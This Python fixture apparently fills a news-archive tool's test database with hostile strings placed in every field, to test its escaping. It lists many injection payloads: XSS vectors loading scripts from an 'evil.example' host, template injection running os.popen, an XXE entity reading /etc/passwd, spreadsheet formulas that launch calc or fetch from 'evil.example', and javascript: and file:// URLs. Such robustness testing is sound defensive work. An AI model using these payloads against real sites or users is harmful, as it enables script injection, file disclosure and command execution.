# ruff: noqa: E501 - a payload stands on one line
"""An archive of words that want to be more than words: each payload in every place that foreign words reach."""

from __future__ import annotations

import datetime as dt

import marsad
from marsad.archive import open_archive
from marsad.languages import sentences
from marsad.records import (
    Claim,
    Coding,
    Document,
    Entity,
    Event,
    Forecast,
    Likelihood,
    Place,
    Voice,
    content_id,
    document_id,
    joined_text,
)

_LONG = "م" * 600
_BREAKS = "\u202e\u2066\u2067\u200f\u200e\u202d\u202c\u2069"

PAYLOADS = (
    # elements and handlers
    "<script>alert(1)</script>", "</script><script>alert(2)</script>", "<ScRiPt>alert(3)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>", "<img src=x onerror=alert(4)>", "<img/src/onerror=alert(5)>",
    "<body onload=alert(6)>", "<svg onload=alert(7)>", "<svg><script>alert(8)</script></svg>",
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>", "<svg><a xlink:href='javascript:alert(10)'><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(11)>", "<math href='javascript:alert(12)'>x</math>",
    "<iframe srcdoc='<script>parent.alert(13)</script>'></iframe>", "<iframe src=javascript:alert(14)>", "<object data='data:text/html,<script>alert(15)</script>'>",
    "<embed src='data:image/svg+xml,<svg onload=alert(16)>'>", "<form action='https://evil.example'><button>x</button></form>",
    "<input autofocus onfocus=alert(17)>", "<details open ontoggle=alert(18)>", "<video><source onerror=alert(19)></video>",
    "<audio src=x onerror=alert(20)>", "<marquee onstart=alert(21)>", "<select autofocus onfocus=alert(22)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>", "<style>*{display:none}@import'https://evil.example/x.css'</style>",
    "<template><script>alert(23)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(24)>'>",
    "<a href='javascript:alert(25)' autofocus>x</a>", "<x id=main tabindex=1 onfocus=alert(26)>",
    # out of an attribute, a comment, a title, a text
    '" onmouseover="alert(27)', "' onfocus='alert(28)' autofocus='", '"><img src=x onerror=alert(29)>', "'><svg onload=alert(30)>",
    "` onerror=alert(31) `", "--><script>alert(32)</script><!--", '<!--<img src="--><img src=x onerror=alert(33)//">', "</title><script>alert(34)</script>",
    "</textarea><script>alert(35)</script>", "</style><script>alert(36)</script>", "]]><script>alert(37)</script>", "</bdi></p></main></body><script>alert(38)</script>",
    "<mark onclick=alert(39)>x</mark>", "&lt;script&gt;alert(40)&lt;/script&gt;", "&#60;script&#62;alert(41)&#60;/script&#62;", "\\u003cscript\\u003ealert(42)\\u003c/script\\u003e",
    # templates, styles, entities
    "{{7*7}}", "{% import os %}{{ os.popen('id') }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(43)')()}}", "%(name)s {0} {x}",
    "x;background:url(https://evil.example/x)", "</div><div style='position:fixed;inset:0;background:red'>", "expression(alert(44))",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "<?xml version='1.0'?><?php echo 1 ?>", "<!ENTITY lol 'lol'>&lol;",
    # Markdown and spreadsheets
    "[x](javascript:alert(45))", "![x](https://evil.example/x.png)", "[x]: javascript:alert(46)", "<javascript:alert(47)>", "```\n<script>alert(48)</script>\n```",
    "| a | b |\n| --- | --- |", "# x\n\n- [ ] y\n1. z\n> w\n***", '=HYPERLINK("https://evil.example","x")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=IMPORTXML("https://evil.example","//a")',
    # letters
    f"{_BREAKS}<b>abc</b>", f"\u202e{'evil'}\u202c txt.exe", "\u200b\u200c\u200d\ufeff<i>\u200b</i>", "nul\x00l\x01\x08\x1b[31mred", "\ud7ff\ufffe\uffff\U0010ffff",
    _LONG, "W" * 600, "<" * 400, "Zal\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308go" * 20, "عربي English עברית 123 (abc) ١٢٣ [ابج]",
    "\u2028alert(49)\u2029", "\uff1cscript\uff1ealert(50)\uff1c/script\uff1e", "A&B \"C\" 'D' <E> `F` \\G",
)  # fmt: skip

URLS = (
    "javascript:alert(51)", "JaVaScRiPt:alert(52)", " javascript:alert(53)", "java\tscript:alert(54)", "data:text/html,<script>alert(55)</script>",
    "vbscript:msgbox(1)", "file:///etc/passwd", 'https://example.org/" onclick="alert(56)', "https://example.org/<script>alert(57)</script>",
    "//evil.example/x", "https://user:pass@example.org/x", "https://example.org/)[x](javascript:alert(58))", "https://example.org/" + "a" * 900, "http://", "https://exa mple.org",
)  # fmt: skip

_TOLD = "هاجمت روسيا كازاخستان أمس."
_WILL = "ستعاقب روسيا كازاخستان في 2030."


def fill(path):
    """Adds an article for each payload and works its stories out."""
    with marsad.open(path) as observatory:
        for number, payload in enumerate(PAYLOADS):
            add(observatory, number, payload.replace("\x00", "\ufffd"))  # the archive refuses U+0000
        observatory.story_records()


def add(observatory, number, payload):
    """An article in which the payload is title, body, outlet, author, comment, citation, address and names."""
    day = dt.date(2024, 1, 1) + dt.timedelta(days=9 * number)
    line = " ".join(payload.split()) or "x"
    text, body = joined_text(payload, f"{_TOLD} {payload}\n\n{payload}\n\n{_WILL} {payload}")
    made = Document(
        id=document_id(text, payload, day), url=URLS[number % len(URLS)], outlet=payload, author=payload,
        title=payload, published=day, text=text, body_start=body, comments=(payload, line), citations=(payload,),
    )  # fmt: skip
    split = sentences(text, body)
    observatory._archive.writer().add(made, split, _coding(made, split, payload))


def _coding(made, split, payload):
    events, claims, forecasts = [], [], []
    for one in split:
        words = made.text[one.start : one.end]
        where = {"document": made.id, "sentence": one.number}
        if "هاجمت" in words:
            at = one.start + words.index("هاجمت")
            events = [_event(where, at, words, payload, status) for status in ("actual", "negated")]
            claims = [_claim(where, one, words, payload)]
        if "ستعاقب" in words:
            at = one.start + words.index("ستعاقب")
            forecasts = [_forecast(where, at, words, payload)]
    return Coding(document=made.id, events=tuple(events), claims=tuple(claims), forecasts=tuple(forecasts))


def _party(country, payload):
    return Entity(text=payload, name=payload, name_ar=payload, country=country, sector="GOV")


def _event(where, at, words, payload, status):
    voices = () if status == "actual" else (Voice(speaker=_party("KAZ", payload), verb="denies"),)
    return Event(
        id=content_id("event", where["document"], at, status), **where, start=at, end=at + len("هاجمت"),
        type="ASSAULT", mode=None, actors=(_party("RUS", payload),), recipients=(_party("KAZ", payload),),
        date=None, date_precision="unknown", status=status, voices=voices, confidence=0.9, text=words,
        place=Place(text=payload, name=payload, country="KAZ"),
    )  # fmt: skip


def _claim(where, one, words, payload):
    return Claim(
        id=content_id("claim", where["document"], one.start), **where, start=one.start, end=one.end,
        speaker=_party("KAZ", payload), verb="denies", content=words, quoted=False, confidence=0.9,
    )  # fmt: skip


def _forecast(where, at, words, payload):
    stop = at + words[words.index("ستعاقب") :].index(".")
    return Forecast(
        id=content_id("forecast", where["document"], at), **where, start=at, end=stop,
        forecaster=_party("KAZ", payload), made_on=None, statement=_WILL[: stop - at],
        likelihood=Likelihood(words=payload, low=0.2, high=0.4), horizon=None, condition=payload, confidence=0.9,
    )  # fmt: skip


def opened(path):
    """The archive, to be read."""
    return open_archive(str(path), readonly=True)
